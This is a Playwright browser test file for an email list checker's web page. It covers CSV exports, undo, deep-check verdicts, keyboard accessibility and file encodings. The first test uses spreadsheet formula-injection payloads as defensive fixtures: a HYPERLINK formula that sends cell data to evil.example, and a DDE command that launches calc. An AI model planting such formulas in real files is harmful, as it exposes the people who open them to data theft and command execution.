// Browser tests of the list checker's finer points (www/list.html), small and
// fast, in headless Debian Chromium driven by playwright-core: the
// spreadsheet-formula guard of the exports; CSV files read as the CLI reads
// them (tests/data/list-reading.json); the exports' progress and cancel;
// undoing applied suggestions; each row's depth and the exports after a deep
// check (against the fake edge API of server.mjs); each row's message by
// keyboard, for screen readers and by touch; files that are not UTF-8 (read
// as Windows-1252), byte order marks, and a 50 MB file.
//
//   bash scripts/install-chromium.sh && bash crates/wasm/build.sh && cargo build -p prebounce-cli
//   node --test tests/browser/
import { describe, test, before, after, afterEach } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { makeList } from './list-data.mjs';
import { root } from '../npm/helpers.mjs';
import {
  skip, startBrowser, finished, records, download, cliVerdicts, loadCodes, pageState,
} from './list-page.mjs';

describe('list checker: exports, undo, deep-check depth, keyboard, encodings', { skip, timeout: 180_000 }, () => {
  let browser = null;
  let dir = null;
  let codes = null;

  before(async () => {
    codes = await loadCodes();
    dir = await mkdtemp(path.join(os.tmpdir(), 'prebounce-list-more-'));
    browser = await startBrowser();
  });

  after(async () => {
    try {
      if (browser) await browser.close();
    } finally {
      if (dir) await rm(dir, { recursive: true, force: true });
    }
  });

  /** Writes `content` to a file in the test's folder; its path. */
  async function saved(name, content) {
    const file = path.join(dir, name);
    await writeFile(file, content);
    return file;
  }

  /** The per-row codes and counts the page holds (what undo must restore). */
  async function codesNow(page) {
    const s = await pageState(page);
    return { status: s.status, reason: s.reason, flags: s.flags, errors: s.errors, byStatus: s.byStatus, byReason: s.byReason };
  }

  afterEach(() => browser.closePages());

  /** Loads `text` (or bytes) as a file named `name` and waits for the run to end. */
  async function load(page, name, content, mimeType = 'text/csv') {
    await page.setInputFiles('#file', { name, mimeType, buffer: Buffer.isBuffer(content) ? content : Buffer.from(content) });
    await finished(page);
    await page.waitForFunction((n) => window.listApp.name === n && window.listApp.state === 'done', name);
  }

  test('every CSV export guards cells a spreadsheet would run as formulas, the address too; the guard can be turned off', async () => {
    const page = await browser.open();
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const dde = "=cmd|' /C calc'!A0";
    const csv = [
      'name,email,note',
      `"${formula.replaceAll('"', '""')}",ana@example.com,+1 555 0100`,
      'Bob,-bob@example.com,@bob on chat',
      '"=1+1\nsecond line",carl@example.com,"\ttabbed"',
      `Dan,"${dde}",-`,
      'Eve,eve@example.com,"\rafter a carriage return"',
    ].join('\n');
    await load(page, 'formulas.csv', `${csv}\n`);
    assert.equal(await page.isChecked('#export-guard'), true, 'the guard is on by default');

    const clean = records((await download(page, '#export-clean')).text);
    assert.deepEqual(clean, [
      ['name', 'email', 'note'],
      [`'${formula}`, 'ana@example.com', "'+1 555 0100"],
      ['Bob', "'-bob@example.com", "'@bob on chat"],
      ["'=1+1\nsecond line", 'carl@example.com', "'\ttabbed"],
      ['Eve', 'eve@example.com', "'\rafter a carriage return"],
    ]);
    const suppression = records((await download(page, '#export-suppression')).text);
    assert.deepEqual(suppression, [['name', 'email', 'note'], ['Dan', `'${dde}`, "'-"]]);
    const annotated = records((await download(page, '#export-annotated')).text);
    assert.deepEqual(annotated.map((r) => r.slice(0, 4)), [
      ['name', 'email', 'note', 'status'],
      [`'${formula}`, 'ana@example.com', "'+1 555 0100", 'valid'],
      ['Bob', "'-bob@example.com", "'@bob on chat", 'valid'],
      ["'=1+1\nsecond line", 'carl@example.com', "'\ttabbed", 'valid'],
      ['Dan', `'${dde}`, "'-", 'invalid'],
      ['Eve', 'eve@example.com', "'\rafter a carriage return", 'valid'],
    ]);

    // Off: the cells as they were.
    await page.uncheck('#export-guard');
    const raw = records((await download(page, '#export-clean')).text);
    assert.deepEqual(raw[1], [formula, 'ana@example.com', '+1 555 0100']);
    assert.deepEqual(raw[2], ['Bob', '-bob@example.com', '@bob on chat']);

    // A text list's clean list (one address a line) is guarded the same way.
    await page.check('#export-guard');
    await load(page, 'plain.txt', '-ana@example.com\nbob@example.com\n', 'text/plain');
    assert.equal((await download(page, '#export-clean')).text, "'-ana@example.com\nbob@example.com\n");
    assert.deepEqual(page.errors, []);
  });

  test('an export shows its progress while it is made, and can be cancelled', async () => {
    const page = await browser.open();
    // 20,000 records, about 1.2 MB: several of the worker's batches (512 KB of text each).
    const list = makeList({ rows: 20_000, seed: 11 });
    await load(page, 'twenty.csv', list.bytes);
    const downloads = [];
    page.on('download', (d) => downloads.push(d.suggestedFilename()));
    const file = page.waitForEvent('download');

    // The bar and the cancel button show as soon as the button is pressed.
    const shown = await page.evaluate(() => {
      document.getElementById('export-annotated').click();
      return { bar: !document.getElementById('export-bar').hidden, cancel: !document.getElementById('export-cancel').hidden };
    });
    assert.deepEqual(shown, { bar: true, cancel: true });
    await page.waitForFunction(() => window.listApp.export.state === 'done');
    const done = await page.evaluate(() => ({ ...window.listApp.export }));
    assert.ok(done.updates >= 2, `progress was reported between batches (${done.updates} updates)`);
    assert.equal(done.done, 1, 'the last report is the end of the text');
    assert.equal(await page.isHidden('#export-bar'), true, 'the bar goes when the file is ready');
    assert.equal(await page.isHidden('#export-cancel'), true);
    assert.match(await page.textContent('#export-status'), /^twenty-annotated\.csv: 20,000 rows, downloaded\.$/);
    assert.equal((await file).suggestedFilename(), 'twenty-annotated.csv');

    // Cancelled right after the start (both clicks in one task, so the cancel
    // reaches the worker before its second batch): no file, and the focus,
    // which was on the cancel button, returns to the export's button.
    const before = downloads.length;
    await page.evaluate(() => {
      document.getElementById('export-annotated').click();
      const cancel = document.getElementById('export-cancel');
      cancel.focus();
      cancel.click();
    });
    await page.waitForFunction(() => window.listApp.export.state !== 'running');
    assert.equal(await page.evaluate(() => window.listApp.export.state), 'cancelled');
    assert.equal(await page.textContent('#export-status'), 'Download cancelled.');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'export-annotated');
    await page.waitForTimeout(300);
    assert.equal(downloads.length, before, 'nothing was downloaded');
    assert.deepEqual(page.errors, []);
  });

  test('an applied suggestion can be undone, one by one or all at once: the address and the verdict come back', async () => {
    const page = await browser.open();
    const csv = 'email,name\njane@hotmial.com,Jane\nok@example.com,Ok\nbob@gmial.com,Bob\njohn@gmailcom,John\namy@yahooo.com,Amy\n';
    const file = await saved('typos.csv', csv);
    const cli = await cliVerdicts(file);
    await page.setInputFiles('#file', file);
    await finished(page);
    const initial = await codesNow(page);
    assert.deepEqual(initial.status.map((c) => codes.STATUSES[c]), cli.map((v) => v.status));
    const withSuggestion = cli.filter((v) => v.suggestion).length;
    assert.ok(withSuggestion >= 4, `typos and an invalid address with suggestions (${withSuggestion})`);
    const row = (i) => `#rows .tr[data-row="${i}"]`;

    // One by one: use bob's suggestion, then undo it from the keyboard.
    await page.click(`${row(2)} button.apply`);
    await page.waitForFunction((sel) => document.querySelector(sel)?.textContent === 'was bob@gmial.com', `${row(2)} .was`);
    assert.equal(await page.textContent(`${row(2)} .email`), 'bob@gmail.com');
    assert.equal(await page.evaluate(() => window.listApp.applied), 1);
    const undo = page.locator(`${row(2)} button.undo`);
    assert.equal(await undo.getAttribute('aria-label'), 'Undo: back to bob@gmial.com');
    await undo.focus();
    await page.keyboard.press('Enter');
    await page.waitForFunction((sel) => document.querySelector(sel)?.textContent === 'bob@gmial.com', `${row(2)} .email`);
    await page.waitForSelector(`${row(2)} button.apply`);
    assert.deepEqual(await codesNow(page), initial, 'the verdict and the counts are back');
    assert.equal(await page.evaluate(() => window.listApp.applied), 0);
    assert.equal(await page.isHidden('#undo-all'), true, 'nothing left to undo');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'viewport', 'the focus stays in the table');

    // All at once, by keyboard: the focus moves between the two bulk buttons.
    await page.focus('#apply-all');
    await page.keyboard.press('Enter');
    await page.waitForFunction((n) => window.listApp.applied === n, withSuggestion);
    assert.equal(await page.evaluate(() => document.activeElement.id), 'undo-all');
    await page.waitForFunction((sel) => document.querySelector(sel)?.textContent === 'jane@hotmail.com', `${row(0)} .email`);
    assert.equal(await page.textContent('#applied'), `${withSuggestion} suggestions applied.`);
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => window.listApp.applied === 0);
    assert.equal(await page.evaluate(() => document.activeElement.id), 'apply-all');
    assert.deepEqual(await codesNow(page), initial, 'every verdict is back');
    await page.waitForFunction((sel) => document.querySelector(sel)?.textContent === 'jane@hotmial.com', `${row(0)} .email`);
    assert.equal(await page.isDisabled('#apply-all'), false, 'the suggestions can be applied again');
    assert.equal(await page.textContent('#applied'), '');

    // The annotated export is the CLI's verdicts on the file as it was.
    const annotated = records((await download(page, '#export-annotated')).text);
    assert.deepEqual(annotated.slice(1).map((r) => r.slice(0, 5)),
      csv.trim().split('\n').slice(1).map((l, k) => [...l.split(','), cli[k].status, cli[k].reason, cli[k].suggestion ?? '']));
    assert.deepEqual(page.errors, []);
  });

  test('after a deep check the table shows each row\'s depth and every export follows the deep verdicts', async () => {
    const page = await browser.open();
    const csv = 'name,email\nAna,ana@example.com\nDis,disabled@example.com\nNul,nullmx@example.com\n'
      + 'Typ,bob@gmial.com\nBad,not-an-address\nUnk,unknown@example.com\n';
    await load(page, 'deep.csv', csv);
    const depths = () => page.$$eval('#rows .tr', (rows) => rows.map((r) => r.querySelector('.td.depth').textContent));
    await page.waitForFunction(() => document.querySelectorAll('#rows .tr .td.depth:not(:empty)').length === 6);
    assert.deepEqual(await depths(), Array(6).fill('Syntax'), 'checked in the browser so far');

    const before = browser.server.requests.length;
    await page.fill('#deep-endpoint', browser.server.apiUrl);
    await page.fill('#deep-key', 'pk_test_list');
    await page.click('#deep-start');
    await page.waitForFunction(() => ['done', 'error', 'cancelled'].includes(window.listApp.deep?.state));
    assert.equal(await page.evaluate(() => window.listApp.deep.state), 'done', await page.textContent('#deep-status'));
    const sent = browser.server.requests.slice(before).filter((r) => r.method === 'POST');
    assert.deepEqual(sent.flatMap((r) => r.emails),
      ['ana@example.com', 'disabled@example.com', 'nullmx@example.com', 'unknown@example.com'],
      'only the rows still valid or unknown leave the browser');
    await page.waitForFunction(() => document.querySelectorAll('#rows .tr .td.depth:not(:empty)').length === 6
      && document.querySelector('#rows .tr .td.depth').textContent === 'SMTP');
    assert.deepEqual(await depths(), ['SMTP', 'SMTP', 'DNS', 'Syntax', 'Syntax', 'SMTP']);

    // The files follow the deep verdicts: disabled and null MX are now invalid, unknown is out of the clean list.
    const clean = records((await download(page, '#export-clean')).text);
    assert.deepEqual(clean, [['name', 'email'], ['Ana', 'ana@example.com']]);
    await page.check('input[name="clean-kind"][value="clean-risky"]');
    const risky = records((await download(page, '#export-clean')).text);
    assert.deepEqual(risky, [['name', 'email'], ['Ana', 'ana@example.com'], ['Typ', 'bob@gmial.com']]);
    const suppression = records((await download(page, '#export-suppression')).text);
    assert.deepEqual(suppression, [['name', 'email'], ['Dis', 'disabled@example.com'], ['Nul', 'nullmx@example.com'], ['Bad', 'not-an-address']]);
    const annotated = records((await download(page, '#export-annotated')).text);
    assert.deepEqual(annotated[0], ['name', 'email', 'status', 'reason', 'suggestion', 'message', 'depth']);
    assert.deepEqual(annotated.slice(1).map(([name, , status, reason, , , depth]) => [name, status, reason, depth]), [
      ['Ana', 'valid', 'ok', 'smtp'],
      ['Dis', 'invalid', 'mailbox_disabled', 'smtp'],
      ['Nul', 'invalid', 'null_mx', 'dns'],
      ['Typ', 'risky', 'possible_typo', 'syntax'],
      ['Bad', 'invalid', 'invalid_syntax', 'syntax'],
      ['Unk', 'unknown', 'smtp_unavailable', 'smtp'],
    ]);
    assert.equal(annotated[2][5], 'The mail server says this mailbox has been disabled.', 'the API\'s message');
    assert.deepEqual(page.errors, []);
  });

  test('each row\'s message is reached by keyboard and written under the table in a live region, not only in a tooltip', async () => {
    const page = await browser.open();
    const file = await saved('messages.csv', 'email,name\nana@example.com,Ana\nbob@gmial.com,Bob\nnot-an-address,X\nx@mailinator.com,Y\n');
    const cli = await cliVerdicts(file);
    await page.setInputFiles('#file', file);
    await finished(page);
    const details = () => page.$$eval('#row-details p', (ps) => ps.map((p) => p.textContent));
    const wait = (title) => page.waitForFunction((t) => document.querySelector('#row-details .title')?.textContent === t, title);
    assert.equal(await page.getAttribute('#row-details', 'role'), 'status');
    assert.equal(await page.getAttribute('#viewport', 'aria-describedby'), 'row-details');

    // Focus order: from the search field, Tab goes to the table, which describes its first row.
    await page.focus('#f-search');
    await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'viewport');
    await wait('Line 2: ana@example.com');
    assert.deepEqual(await details(), ['Line 2: ana@example.com', 'Valid: OK (checked: Syntax).']);

    await page.keyboard.press('ArrowDown');
    await wait('Line 3: bob@gmial.com');
    assert.deepEqual(await details(), ['Line 3: bob@gmial.com', 'Risky: Likely typo (checked: Syntax).', cli[1].message, cli[1].detail]);
    assert.match(cli[1].message, /did you mean bob@gmail\.com\?/, 'the message names the suggestion');
    await page.waitForSelector('#rows .tr[data-row="1"][aria-current="true"]'); // the row is marked
    assert.equal(await page.$$eval('#rows .tr[aria-current]', (rows) => rows.length), 1);

    await page.keyboard.press('ArrowDown');
    await wait('Line 4: not-an-address');
    assert.equal((await details())[2], cli[2].message);
    await page.keyboard.press('End');
    await wait('Line 5: x@mailinator.com');
    assert.equal((await details())[2], cli[3].message);
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Home');
    await wait('Line 2: ana@example.com');

    // A filter leaves only the invalid row: back in the table, the arrow keys move among the rows shown.
    await page.focus('#f-status');
    await page.selectOption('#f-status', 'invalid');
    assert.equal((await details())[0], 'Select a row, or move through the rows with the arrow keys, to read its whole verdict here.',
      'the row described before is filtered out');
    await page.focus('#viewport');
    await wait('Line 4: not-an-address');
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('ArrowUp');
    await wait('Line 4: not-an-address');

    // A click (or a tap on a phone, which has no hover) describes the row too.
    await page.selectOption('#f-status', '');
    await page.click('#rows .tr[data-row="3"] .td.reason');
    await wait('Line 5: x@mailinator.com');
    assert.deepEqual(page.errors, []);
  });

  test('a file that is not UTF-8 is read as Windows-1252 and says so; UTF-8 and UTF-16 byte order marks are honoured', async () => {
    const page = await browser.open();
    // "Café" is 43 61 66 E9 in Windows-1252 (and Latin-1); 0x80 is the euro sign.
    const text = 'name,email,note\nCafé Müller,josé@example.com,5 €\nAna Çelik,ana@example.com,Zürich\nBob,bob@gmial.com,naïve\n';
    const legacy = Buffer.from(text.replace('€', '\u0080'), 'latin1');
    assert.deepEqual([...legacy.subarray(16, 20)], [0x43, 0x61, 0x66, 0xe9]);
    await page.setInputFiles('#file', await saved('legacy.csv', legacy));
    await finished(page);
    assert.equal(await page.textContent('#source'), 'legacy.csv: 4 lines, CSV, 3 columns, ","-separated, with a header; read as Windows-1252.');
    assert.match(await page.textContent('#problems'), /legacy\.csv is not UTF-8 text, so it was read as Windows-1252 .*save it as "CSV UTF-8"/);
    assert.doesNotMatch(await page.textContent('#problems'), /not readable/, 'no line is reported as unreadable');
    // The verdicts are the CLI's for the same text in UTF-8 (the CLI reads UTF-8 only).
    const cli = await cliVerdicts(await saved('legacy-as-utf8.csv', text));
    const s = await pageState(page);
    assert.deepEqual(s.status.map((c) => codes.STATUSES[c]), cli.map((v) => v.status));
    assert.deepEqual(s.reason.map((c) => codes.REASONS[c]), cli.map((v) => v.reason));
    assert.equal(cli[0].flags.smtputf8, true, 'josé@example.com was read with its é');
    await page.waitForFunction(() => document.querySelector('#rows .tr .td.email')?.textContent === 'josé@example.com');
    const first = await page.$$eval('#rows .tr:first-child .td', (cells) => cells.map((c) => c.textContent));
    assert.deepEqual([first[1], first.at(-2), first.at(-1)], ['josé@example.com', 'Café Müller', '5 €']);
    // The downloads are UTF-8, the letters kept.
    const clean = records((await download(page, '#export-clean')).text);
    assert.deepEqual(clean, [['name', 'email', 'note'], ['Café Müller', 'josé@example.com', '5 €'], ['Ana Çelik', 'ana@example.com', 'Zürich']]);

    // A UTF-8 byte order mark: dropped, so the header still names the email column.
    const bomText = 'email,name\nzoë@bücher.de,Zoë\nbob@gmial.com,Bob\n';
    await load(page, 'bom.csv', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(bomText)]));
    assert.equal(await page.textContent('#source'), 'bom.csv: 3 lines, CSV, 2 columns, ","-separated, with a header; read as UTF-8.');
    assert.equal(await page.textContent('#column option:checked'), 'email (detected)');
    const bomCli = await cliVerdicts(await saved('bom-less.csv', bomText));
    assert.deepEqual((await pageState(page)).reason.map((c) => codes.REASONS[c]), bomCli.map((v) => v.reason));

    // UTF-16, big-endian, with its byte order mark.
    const be = Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('email\tname\r\nbob@gmial.com\tBob\r\nzoë@bücher.de\tZoë\r\n', 'utf16le').swap16()]);
    await load(page, 'be.csv', be);
    assert.equal(await page.textContent('#source'), 'be.csv: 3 lines, CSV, 2 columns, tab-separated, with a header; read as UTF-16 (big-endian).');
    assert.deepEqual((await pageState(page)).reason.map((c) => codes.REASONS[c]), ['possible_typo', 'ok']);
    await page.waitForFunction(() => [...document.querySelectorAll('#rows .tr .td')].some((c) => c.textContent === 'Zoë'));
    assert.deepEqual(page.errors, []);
  });

  test('each CSV is read as the CLI reads it: delimiter ties (, then ; then tab), quoted delimiters, header and column', async () => {
    const cases = JSON.parse(await readFile(path.join(root, 'tests/data/list-reading.json'), 'utf8'));
    const page = await browser.open();
    for (const c of cases) {
      await load(page, `${c.name}.csv`, c.text);
      const { delimiter, hasHeader, column } = await page.evaluate(() => window.listApp.head);
      // The page's addresses: the annotated export's address column, below its header.
      const annotated = Papa.parse((await download(page, '#export-annotated')).text, { delimiter }).data
        .filter((r) => !(r.length === 1 && r[0] === '')).slice(1);
      const cliInputs = (await cliVerdicts(await saved(`${c.name}.csv`, c.text))).map((v) => v.input);
      assert.deepEqual(
        { delimiter, hasHeader, column, addresses: annotated.map((r) => r[column]) },
        { delimiter: c.delimiter, hasHeader: c.hasHeader, column: c.column, addresses: cliInputs },
        `${c.name}: the page against the CLI (${c.why})`,
      );
      assert.deepEqual(cliInputs, c.addresses, `${c.name}: the CLI (${c.why})`);
    }
  });

  test('a 50 MB CSV loads, is checked and counted, and the page stays responsive', async (t) => {
    const page = await browser.open();
    // 100,000 records of about 500 bytes (a long notes column): 50 MB with few rows, so the test stays quick.
    const rows = 100_000;
    const notes = `"${'lorem ipsum, '.repeat(38)}"`;
    const lines = ['id,email,notes'];
    for (let i = 1; i <= rows; i++) {
      const email = i % 10 === 0 ? `user${i}.example.com` : i % 25 === 0 ? `user${i}@gmial.com` : `user${i}@example.com`;
      lines.push(`${i},${email},${notes}`);
    }
    const file = await saved('fifty.csv', `${lines.join('\n')}\n`);
    const size = (await stat(file)).size;
    assert.ok(size >= 50e6, `${(size / 1e6).toFixed(1)} MB`);
    await page.setInputFiles('#file', file);
    await finished(page, 60_000);
    const s = await pageState(page);
    t.diagnostic(`${(size / 1e6).toFixed(1)} MB, ${rows} rows: chosen → results in ${Math.round(s.ms)} ms, longest main-thread task ${Math.round(s.longestTask)} ms (worker: ${JSON.stringify(s.done.times)})`);
    assert.equal(s.state, 'done');
    assert.equal(s.rows, rows);
    const invalid = rows / 10;
    const risky = rows / 25 - rows / 50; // multiples of 25 that are not multiples of 10
    assert.deepEqual(s.byStatus, [rows - invalid - risky, invalid, risky, 0]);
    assert.match(await page.textContent('#summary'), /^100,000 addresses checked in fifty\.csv\. 88,000 valid, 10,000 invalid, 2,000 risky, 0 unknown\./);
    assert.ok(s.longestTask < 500, `the longest main-thread task was ${Math.round(s.longestTask)} ms`);
    assert.ok(s.domRows > 0 && s.domRows < 60, 'only the visible rows in the DOM');
    assert.deepEqual(page.errors, []);
  });
});
